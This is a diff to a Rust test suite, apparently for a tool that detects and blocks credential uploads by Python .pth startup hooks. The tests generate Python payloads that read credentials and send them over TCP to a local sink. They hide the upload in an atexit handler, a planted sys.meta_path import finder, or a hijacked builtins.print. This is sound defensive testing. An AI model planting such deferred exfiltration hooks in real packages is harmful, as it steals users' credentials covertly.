@@ -297,15 +297,20 @@ fn a_lineage_whose_events_were_lost_fails_closed() {
     assert_eq!(tcp.bytes(), 0);
 }
 
-/// Python registering an exit handler that reads the credentials and sends them to the
-/// TCP listener on `port` (then leaves the outcome in `payload.done`).
-fn exit_upload(port: u16) -> String {
+/// Python defining `_upload()`, which reads the credentials and sends them to the TCP
+/// listener on `port` (then leaves the outcome in `payload.done`).
+fn upload_def(port: u16) -> String {
     let handler = format!("{PRELUDE}blob = open(cred, 'rb').read()\n{SEND_TCP}{FINISH}")
         .replace("PORT", &port.to_string());
     let body: Vec<String> = handler.lines().map(|l| format!("    {l}")).collect();
+    format!("def _upload():\n{}\n", body.join("\n"))
+}
+
+/// Python registering `_upload()` as an exit handler.
+fn exit_upload(port: u16) -> String {
     format!(
-        "import atexit\ndef _upload():\n{}\natexit.register(_upload)\n",
-        body.join("\n")
+        "import atexit\n{}atexit.register(_upload)\n",
+        upload_def(port)
     )
 }
 
@@ -328,11 +333,13 @@ fn run_to_exit(sb: &Sandbox, program: Option<&str>) -> (Option<String>, Option<V
     (done, alert, daemon.stop())
 }
 
-/// The exit handler a hook left behind was blocked, and the alert names the hook.
+/// The code a hook left behind was blocked, and the alert names the hook and what it left
+/// (`deferral`: `exit` for exit handlers, `program` for code planted in the program).
 fn assert_blocked_and_named(
     tcp: &TcpSink,
     run: (Option<String>, Option<Value>, Vec<Value>),
     pth: &Path,
+    deferral: &str,
 ) {
     let (done, alert, alerts) = run;
     assert_eq!(tcp.bytes(), 0, "the exit handler sent (it said {done:?})");
@@ -344,6 +351,7 @@ fn assert_blocked_and_named(
         Some(&*real(pth).to_string_lossy()),
         "{alert:#}"
     );
+    assert_eq!(alert["startup_hook"]["deferral"], deferral, "{alert:#}");
 }
 
 /// The program's own exit upload went through, not blamed on any hook.
@@ -372,7 +380,7 @@ fn evasion_deferred_to_interpreter_exit() {
             integration_tests::base64(exit_upload(tcp.port).as_bytes())
         ),
     );
-    assert_blocked_and_named(&tcp, run_to_exit(&sb, None), &pth);
+    assert_blocked_and_named(&tcp, run_to_exit(&sb, None), &pth, "exit");
 }
 
 /// The same deferral one step removed: the hook is a plain `import`, and the module it
@@ -388,7 +396,7 @@ fn evasion_deferred_to_exit_by_an_imported_module() {
     std::fs::write(sb.site.join("pthw_telemetry.py"), exit_upload(tcp.port))
         .expect("write the imported module");
     let pth = sb.pth("pthw_telemetry.pth", "import pthw_telemetry\n");
-    assert_blocked_and_named(&tcp, run_to_exit(&sb, None), &pth);
+    assert_blocked_and_named(&tcp, run_to_exit(&sb, None), &pth, "exit");
 }
 
 /// The other side: a hook whose code is in plain sight and registers nothing is not
@@ -424,4 +432,43 @@ fn a_programs_own_exit_handler_is_not_blamed_on_a_hook_importing_a_plain_module(
     .expect("write the imported module");
     sb.pth("pthw_settings.pth", "import pthw_settings\n");
     assert_sent_unblamed(&tcp, run_to_exit(&sb, Some(&exit_upload(tcp.port))));
+}
+
+/// Deferral into the program itself: the module a hook imports plants an import hook
+/// (`sys.meta_path`) whose finder uploads the credentials when the program first imports
+/// `wave`, on the main thread, long after start-up. Code a hook plants in the program is
+/// the hook's wherever it runs: nothing arrives, and the alert names the hook.
+#[test]
+fn evasion_planted_import_hook_runs_in_the_program() {
+    if !can_run() {
+        return;
+    }
+    let sb = Sandbox::new("meta-path");
+    let tcp = TcpSink::start();
+    let module = format!(
+        "import sys\n{}class _Finder:\n    fired = False\n    def find_spec(self, name, path=None, target=None):\n        if name == 'wave' and not _Finder.fired:\n            _Finder.fired = True\n            _upload()\n        return None\nsys.meta_path.insert(0, _Finder())\n",
+        upload_def(tcp.port)
+    );
+    std::fs::write(sb.site.join("pthw_plugins.py"), module).expect("write the imported module");
+    let pth = sb.pth("pthw_plugins.pth", "import pthw_plugins\n");
+    let program = "import wave\nprint('main program ran')";
+    assert_blocked_and_named(&tcp, run_to_exit(&sb, Some(program)), &pth, "program");
+}
+
+/// The same with a replaced builtin, in the hook's own line: `print` now uploads the
+/// credentials first, and the program's first `print` runs it.
+#[test]
+fn evasion_replaced_builtin_runs_in_the_program() {
+    if !can_run() {
+        return;
+    }
+    let sb = Sandbox::new("builtin-print");
+    let tcp = TcpSink::start();
+    std::fs::write(sb.site.join("pthw_upload.py"), upload_def(tcp.port))
+        .expect("write the imported module");
+    let pth = sb.pth(
+        "pthw_console.pth",
+        "import builtins; builtins.print = lambda *a, _p=builtins.print, _b=builtins, **k: (__import__('pthw_upload')._upload(), setattr(_b, 'print', _p), _p(*a, **k))\n",
+    );
+    assert_blocked_and_named(&tcp, run_to_exit(&sb, None), &pth, "program");
 }
